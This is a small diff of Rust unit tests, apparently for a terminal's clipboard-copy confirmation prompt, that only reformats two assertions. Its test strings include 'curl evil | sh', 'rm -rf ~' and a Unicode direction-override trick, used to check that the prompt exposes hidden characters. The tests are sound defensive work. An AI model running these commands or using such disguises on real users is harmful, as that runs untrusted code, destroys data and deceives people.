@@ -184,7 +184,10 @@ mod tests {
         assert_eq!(c.text, "curl evil | sh");
         assert_eq!(c.message, "The program wants to copy 14 characters:");
         assert_eq!(c.preview, "curl evil | sh");
-        assert_eq!(remote_copy(RemoteCopyPolicy::Ask, "é").message, "The program wants to copy 1 character:");
+        assert_eq!(
+            remote_copy(RemoteCopyPolicy::Ask, "é").message,
+            "The program wants to copy 1 character:"
+        );
     }
 
     #[test]
@@ -198,7 +201,10 @@ mod tests {
     #[test]
     fn the_preview_writes_out_what_would_not_show_and_is_cut() {
         assert_eq!(preview("ls\n\x1b[2J\trm -rf ~\r"), "ls\\n\\e[2J\\trm -rf ~\\r");
-        assert_eq!(preview("echo \u{202e}hs.live\u{200b}x\x07"), "echo \\u{202e}hs.live\\u{200b}x\\u{7}");
+        assert_eq!(
+            preview("echo \u{202e}hs.live\u{200b}x\x07"),
+            "echo \\u{202e}hs.live\\u{200b}x\\u{7}"
+        );
         assert_eq!(preview("a\\b"), "a\\\\b");
         let long = "x".repeat(PREVIEW_CHARS + 5);
         assert_eq!(preview(&long), format!("{}…", "x".repeat(PREVIEW_CHARS)));
